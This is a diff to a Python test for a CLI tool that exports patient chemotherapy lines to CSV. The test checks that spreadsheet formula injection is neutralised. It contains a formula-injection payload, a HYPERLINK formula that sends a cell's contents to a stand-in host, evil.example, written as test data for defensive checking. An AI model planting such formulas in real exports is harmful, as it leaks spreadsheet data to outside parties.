@@ -198,7 +198,7 @@ def test_patient_lines_never_hand_a_spreadsheet_a_formula(tmp_path):
     _run(str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", str(out))
     text = out.read_bytes().decode("utf-8")
     # the piece after the comma would open a quoted field in a spreadsheet: it is neutralised
-    assert "# patient =HYPERLINK(\"http://evil.example/?x=\"&A1,'\"click\"): height 180 cm" in text
+    assert '# patient =HYPERLINK("http://evil.example/?x="&A1,\'"click"): height 180 cm' in text
     for cells in csv.reader(io.StringIO(text)):
         for cell in cells:
             if cell.lstrip()[:1] in {"=", "+", "-", "@"}:
